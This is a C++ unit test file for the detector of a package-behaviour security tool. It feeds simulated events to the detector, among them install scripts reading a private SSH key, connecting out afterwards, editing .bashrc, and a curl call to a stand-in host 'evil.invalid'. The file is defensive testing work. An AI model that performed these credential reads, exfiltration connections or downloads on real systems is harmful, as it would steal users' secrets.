#include "detection/detector.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "detection/testing.h"
#include "model/finding.h"

namespace cordon::detection {
namespace {

using testing::EventMaker;
using enum model::FileOperation;

Detector detector(DetectorOptions options = {}) {
  auto made = Detector::with_builtin_rules(std::move(options));
  EXPECT_TRUE(made) << made.error().describe();
  return *std::move(made);
}

const model::Finding* find(const std::vector<model::Finding>& findings, std::string_view rule) {
  const auto found = std::ranges::find(findings, rule, &model::Finding::rule_id);
  return found == findings.end() ? nullptr : &*found;
}

model::Event read_key(EventMaker& maker, std::uint32_t pid = 10) {
  return maker.file(pid, read, "/home/dev/.ssh/id_ed25519");
}

TEST(Detector, MakesAFindingOfThePackageWithTheEventAsEvidence) {
  Detector all = detector();
  EventMaker maker;
  maker.package.purl = "pkg:npm/%40scope/left@1.0.0";
  all.observe(maker.exec(10, 5, {"node", "install.js"}));
  const auto made = all.observe(read_key(maker));
  const model::Finding* finding = find(made, "watch.secret-read");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->subject.kind, model::SubjectKind::package);
  EXPECT_EQ(finding->subject.purl, "pkg:npm/%40scope/left@1.0.0");
  EXPECT_EQ(finding->subject.name, "@scope/left");
  EXPECT_EQ(finding->subject.version, "1.0.0");
  EXPECT_EQ(finding->kind, model::FindingKind::behaviour);
  ASSERT_EQ(finding->evidence.size(), 1u);
  EXPECT_EQ(finding->evidence[0].kind, model::EvidenceKind::event);
  EXPECT_EQ(finding->evidence[0].locator, "machine/boot/watch/2");
  EXPECT_EQ(finding->evidence[0].excerpt, "read /home/dev/.ssh/id_ed25519");
  EXPECT_EQ(finding->tags, std::vector<std::string>{"attack.t1552.001"});
  ASSERT_GE(finding->remedy.size(), 2u);
  EXPECT_EQ(finding->remedy[0].order, 1u);
  ASSERT_TRUE(finding->exposure);
  EXPECT_EQ(model::headline(*finding->exposure), "executed");
}

TEST(Detector, SaysHowFarAPackageGotByAllThatWasSeenOfIt) {
  Detector all = detector();
  EventMaker maker;
  all.observe(maker.exec(10, 5, {"node", "install.js"}));
  all.observe(read_key(maker));
  EXPECT_EQ(model::headline(*find(all.findings(), "watch.secret-read")->exposure), "executed");
  model::Event sent = maker.connect(10, "203.0.113.7", 80);
  all.observe(sent);
  EXPECT_EQ(model::headline(*find(all.findings(), "watch.secret-read")->exposure), "executed");
  std::get<model::ConnectPayload>(sent.payload).stage = model::ConnectStage::sent;
  all.observe(sent);
  EXPECT_EQ(model::headline(*find(all.findings(), "watch.secret-read")->exposure), "contacted");
  all.observe(maker.make(10, 0, model::ExitPayload{0, 0, 0, {77}}));
  EXPECT_EQ(model::headline(*find(all.findings(), "watch.secret-read")->exposure), "persisted");
}

TEST(Detector, TellsACauseOnceAndCountsTheRest) {
  Detector all = detector();
  EventMaker maker;
  EXPECT_NE(find(all.observe(read_key(maker)), "watch.secret-read"), nullptr);
  for (int i = 0; i < 100; ++i)
    EXPECT_EQ(find(all.observe(maker.file(10, read, "/home/dev/.ssh/id_" + std::to_string(i))), "watch.secret-read"),
              nullptr);
  const auto findings = all.findings();
  const model::Finding* finding = find(findings, "watch.secret-read");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->evidence.size(), Detector::kEvidence);
  EXPECT_EQ(finding->instances, 101u);
  all.observe(read_key(maker));
  EXPECT_EQ(find(all.findings(), "watch.secret-read")->instances, 102u);
}

TEST(Detector, KeepsWhatWasReadInTheHomeAmongManyDecoys) {
  Detector all = detector();
  EventMaker maker;
  for (int i = 0; i < 40; ++i) all.observe(maker.file(10, read, "/tmp/d" + std::to_string(i) + "/.ssh/id_rsa"));
  all.observe(read_key(maker));
  all.observe(maker.connect(10, "203.0.113.7", 8000));
  const auto findings = all.findings();
  for (const char* rule : {"watch.secret-read", "watch.secret-sent"}) {
    const model::Finding* finding = find(findings, rule);
    ASSERT_NE(finding, nullptr) << rule;
    const auto real =
        std::ranges::count(finding->evidence, "read /home/dev/.ssh/id_ed25519", &model::Evidence::excerpt);
    EXPECT_EQ(real, 1) << rule;
    EXPECT_LE(finding->evidence.size(), Detector::kEvidence);
  }
}

TEST(Detector, GivesWhatWentBeforeAsEvidenceOfAJoinedRule) {
  Detector all = detector();
  EventMaker maker;
  all.observe(read_key(maker));
  const auto made = all.observe(maker.connect(10, "203.0.113.7", 8000));
  const model::Finding* finding = find(made, "watch.secret-sent");
  ASSERT_NE(finding, nullptr);
  ASSERT_EQ(finding->evidence.size(), 2u);
  EXPECT_EQ(finding->evidence[0].excerpt, "tcp 203.0.113.7:8000");
  EXPECT_EQ(finding->evidence[1].excerpt, "read /home/dev/.ssh/id_ed25519");
}

TEST(Detector, KeepsPackagesRunsAndMachinesApart) {
  Detector all = detector();
  EventMaker maker;
  all.observe(read_key(maker));
  maker.package.purl = "pkg:npm/right@1.0.0";
  EXPECT_EQ(find(all.observe(maker.connect(20, "203.0.113.7", 80)), "watch.secret-sent"), nullptr);
  maker.package.purl = "pkg:npm/left@1.0.0";
  maker.package.run_id = "run-2";
  EXPECT_EQ(find(all.observe(maker.connect(30, "203.0.113.7", 80)), "watch.secret-sent"), nullptr);
  maker.package.run_id = "run-1";
  model::Event elsewhere = maker.connect(40, "203.0.113.7", 80);
  elsewhere.boot = "another";
  EXPECT_EQ(find(all.observe(elsewhere), "watch.secret-sent"), nullptr);
  EXPECT_NE(find(all.observe(maker.connect(50, "203.0.113.7", 80)), "watch.secret-sent"), nullptr);
}

TEST(Detector, DoesNotJudgeEventsOfNoPackage) {
  Detector all = detector();
  EventMaker maker;
  model::Event event = read_key(maker);
  event.package.reset();
  EXPECT_TRUE(all.observe(event).empty());
  EXPECT_TRUE(all.findings().empty());
}

TEST(Detector, ShowsWhatTheProjectsOwnScriptsDoAndStopsNothing) {
  Detector all = detector();
  EventMaker maker;
  maker.package.purl = "pkg:npm/app@1.0.0";
  maker.package.install_path.reset();  // as the sensor tells of the project itself
  maker.package.phase = model::Phase::build;
  all.observe(maker.make(10, 5, model::ExecPayload{"/usr/bin/node", {"node", "s.js"}, "/home/dev/app/node_modules/x"}));
  all.observe(read_key(maker));
  all.observe(maker.connect(10, "203.0.113.7", 443));
  for (const char* name : {"a", "b", "c"})
    all.observe(maker.file(10, write, "/home/dev/app/dist/" + std::string(name)));
  const auto findings = all.findings();
  for (const char* rule : {"watch.secret-read", "watch.secret-sent", "watch.defacement"})
    EXPECT_NE(find(findings, rule), nullptr) << rule;
  for (const model::Finding& finding : findings) EXPECT_LE(finding.severity, model::Severity::low) << finding.rule_id;
}

TEST(Detector, DoesNotTakeADependencyForTheProject) {
  for (const char* project : {"/home/dev/.npm/_cacache/tmp/git-cloneAb12", "/tmp/w"}) {
    Detector all = detector();
    EventMaker maker;
    maker.package.install_path.reset();
    maker.package.project = project;
    if (maker.package.project == "/tmp/w") maker.package.contradictions = {"on the way stands a script of another"};
    all.observe(read_key(maker));
    const auto findings = all.findings();
    ASSERT_NE(find(findings, "watch.secret-read"), nullptr);
    EXPECT_EQ(find(findings, "watch.secret-read")->severity, model::Severity::high) << project;
  }
}

TEST(Detector, JudgesProgramsThatSomebodyStartedByAFewRulesAndLess) {
  Detector all = detector();
  EventMaker maker;
  maker.package.phase = model::Phase::bin;
  all.observe(maker.exec(10, 5, {"node", "cli.js"}));
  all.observe(maker.file(10, write, "/home/dev/.bashrc"));
  all.observe(read_key(maker));
  const auto findings = all.findings();
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule_id, "watch.persistence");
  EXPECT_EQ(findings[0].severity, model::Severity::medium);
  const auto lines = all.coverage();
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_EQ(lines[0].path, "detection:programs");
  EXPECT_FALSE(lines[0].incomplete);
}

TEST(Detector, JudgesScriptsOfNoKnownPackageAndSaysHowMuchRanInThem) {
  Detector all = detector();
  EventMaker maker;
  maker.package.purl = kUnknownPackage;
  maker.package.install_path.reset();
  maker.package.project.reset();
  maker.package.phase = model::Phase::bin;
  maker.package.confidence = model::AttributionConfidence::unknown;
  all.observe(maker.exec(10, 5, {"sh", "-c", "node a.js"}));
  all.observe(maker.exec(10, 5, {"node", "a.js"}));
  all.observe(read_key(maker));
  all.observe(maker.connect(10, "203.0.113.7", 443));
  const auto findings = all.findings();
  const model::Finding* sent = find(findings, "watch.secret-sent");
  ASSERT_NE(sent, nullptr);  // and not: its host is a registry, because the client talks to it
  EXPECT_EQ(sent->severity, model::Severity::critical);
  EXPECT_EQ(sent->confidence, model::Confidence::low);
  EXPECT_EQ(sent->subject.name, "unknown");
  const auto lines = all.coverage();
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_EQ(lines[0].path, "detection:unknown-package");
  EXPECT_TRUE(lines[0].reason.starts_with("2 programs")) << lines[0].reason;
  EXPECT_TRUE(lines[0].incomplete);
}

TEST(Detector, TakesAProjectWithoutANameForTheProjectAndNothingElseThatIsUnknown) {
  Detector all = detector();
  EventMaker maker;
  maker.package.purl = kUnknownPackage;
  maker.package.install_path.reset();
  maker.package.confidence = model::AttributionConfidence::unknown;
  all.observe(maker.exec(10, 5, {"node", "build.js"}));
  all.observe(read_key(maker));
  EXPECT_EQ(find(all.findings(), "watch.secret-read")->severity, model::Severity::low);
  EXPECT_TRUE(all.coverage().empty());
  maker.package.project.reset();
  all.observe(maker.exec(20, 5, {"node", "install.js"}));
  all.observe(read_key(maker, 20));
  const auto findings = all.findings();
  EXPECT_EQ(find(findings, "watch.secret-read")->severity, model::Severity::high);  // it rose
  EXPECT_TRUE(find(findings, "watch.secret-read")->exposure);
  EXPECT_EQ(all.coverage().size(), 1u);
}

TEST(Detector, IsAsSureAsTheAttribution) {
  for (const auto& [attribution, expected] :
       {std::pair(model::AttributionConfidence::exact, model::Confidence::high),
        std::pair(model::AttributionConfidence::inherited, model::Confidence::high),
        std::pair(model::AttributionConfidence::path, model::Confidence::medium),
        std::pair(model::AttributionConfidence::unknown, model::Confidence::low)}) {
    Detector all = detector();
    EventMaker maker;
    maker.package.confidence = attribution;
    all.observe(read_key(maker));
    EXPECT_EQ(all.findings().at(0).confidence, expected);
  }
}

TEST(Detector, SaysWhatWasLostAndForgotten) {
  DetectorOptions options;
  options.limits.processes = 2;
  options.findings = 1;
  Detector all = detector(std::move(options));
  EXPECT_TRUE(all.coverage().empty());
  EventMaker maker;
  all.observe(maker.make(0, 0, model::LossPayload{7, "ring full"}, true));
  all.observe(maker.make(0, 0, model::LossPayload{5, "ring full"}, true));
  for (std::uint32_t pid = 10; pid < 20; ++pid) all.observe(read_key(maker, pid));
  maker.package.purl = "pkg:npm/right@1.0.0";
  all.observe(read_key(maker));
  const auto lines = all.coverage();
  ASSERT_EQ(lines.size(), 3u);
  EXPECT_EQ(lines[0].path, "events");
  EXPECT_TRUE(lines[0].reason.starts_with("12 events"));
  EXPECT_EQ(lines[1].path, "detection:processes");
  EXPECT_EQ(lines[2].path, "detection:findings");
  for (const model::FileUnread& line : lines) EXPECT_TRUE(line.incomplete && line.code == "too_many");
  EXPECT_EQ(all.findings().size(), 1u);
}

TEST(Detector, MakesHostileTextVisible) {
  Detector all = detector();
  EventMaker maker;
  all.observe(maker.exec(10, 5, {"curl", "http://evil.invalid/\x1b[2J\n"}));
  const auto findings = all.findings();
  ASSERT_NE(find(findings, "watch.downloader"), nullptr);
  EXPECT_EQ(findings[0].evidence[0].excerpt.find('\x1b'), std::string::npos);
  EXPECT_EQ(findings[0].evidence[0].excerpt.find('\n'), std::string::npos);
}

TEST(Detector, GivesTheSameForTheSameEvents) {
  EventMaker maker;
  std::vector<model::Event> events = {maker.connect(5, "192.0.2.10", 443, true), maker.exec(10, 5, {"node", "a.js"}),
                                      read_key(maker), maker.connect(10, "203.0.113.7", 80),
                                      maker.file(10, delete_, "/home/dev/app/node_modules/left/package.json")};
  Detector first = detector(), second = detector();
  for (const model::Event& event : events) EXPECT_EQ(first.observe(event), second.observe(event));
  EXPECT_EQ(first.findings(), second.findings());
  EXPECT_GE(first.findings().size(), 4u);
}

}  // namespace
}  // namespace cordon::detection
